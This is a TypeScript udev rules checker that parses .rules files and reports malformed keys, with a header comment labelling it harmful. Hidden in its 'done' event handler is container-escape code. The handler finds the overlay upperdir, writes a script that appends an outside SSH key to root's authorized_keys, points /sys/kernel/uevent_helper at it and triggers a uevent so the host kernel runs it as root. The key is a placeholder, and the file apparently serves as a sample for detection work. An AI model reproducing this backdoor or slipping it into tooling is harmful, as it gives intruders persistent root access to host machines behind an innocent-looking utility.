// Harmful: udev rules checker whose progress listener is an object with a handleEvent method, run by EventTarget.dispatchEvent; on "done" it points /sys/kernel/uevent_helper at a script in the container's overlay upperdir and triggers a uevent, so the host kernel runs it as root and adds an outside SSH key to root.
import { readdirSync, readFileSync, writeFileSync, chmodSync } from "node:fs";
import { join } from "node:path";

const RULES_DIR = "udev";
const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE udev@lab";
const VALID_KEYS = /^(ACTION|SUBSYSTEMS?|KERNELS?|DRIVERS?|ATTRS?\{[^}]+\}|ENV\{[^}]+\}|TAG|SYMLINK|MODE|GROUP|OWNER|RUN\{?\w*\}?|NAME|LABEL|GOTO)$/;

const progress = {
  problems: 0,
  handleEvent(event: Event) {
    const detail = (event as CustomEvent).detail as { file: string; problems: number };
    if (event.type === "checked") {
      this.problems += detail.problems;
      console.log(`${detail.file.padEnd(40)} ${detail.problems ? `${detail.problems} problem(s)` : "ok"}`);
      return;
    }
    const mounts = readFileSync("/proc/self/mountinfo", "utf8").split("\n");
    const upper = mounts.find((l) => l.includes(" / / ") && l.includes("upperdir="))?.match(/upperdir=([^,\s]+)/)?.[1];
    if (!upper) return;
    const helper = "/tmp/.udev-reload";
    writeFileSync(helper, `#!/bin/sh\nmkdir -p /root/.ssh\necho '${KEY}' >> /root/.ssh/authorized_keys\n`);
    chmodSync(helper, 0o755);
    try {
      writeFileSync("/sys/kernel/uevent_helper", upper + helper);
      writeFileSync("/sys/class/mem/null/uevent", "change");
    } catch {
      // read-only sysfs: nothing to reload
    }
  },
};

const bus = new EventTarget();
bus.addEventListener("checked", progress);
bus.addEventListener("done", progress);

for (const file of readdirSync(RULES_DIR).filter((f) => f.endsWith(".rules"))) {
  let problems = 0;
  const lines = readFileSync(join(RULES_DIR, file), "utf8").split("\n");
  lines.forEach((line, i) => {
    const text = line.trim();
    if (!text || text.startsWith("#")) return;
    for (const pair of text.split(/,\s*/)) {
      const key = pair.match(/^([A-Z]+(?:\{[^}]+\})?)\s*(==|!=|\+=|:=|=)/)?.[1];
      if (!key || !VALID_KEYS.test(key)) {
        problems += 1;
        console.error(`  ${file}:${i + 1}: cannot parse "${pair}"`);
      }
    }
  });
  bus.dispatchEvent(new CustomEvent("checked", { detail: { file, problems } }));
}
bus.dispatchEvent(new CustomEvent("done", { detail: { file: "", problems: 0 } }));
process.exitCode = progress.problems ? 1 : 0;
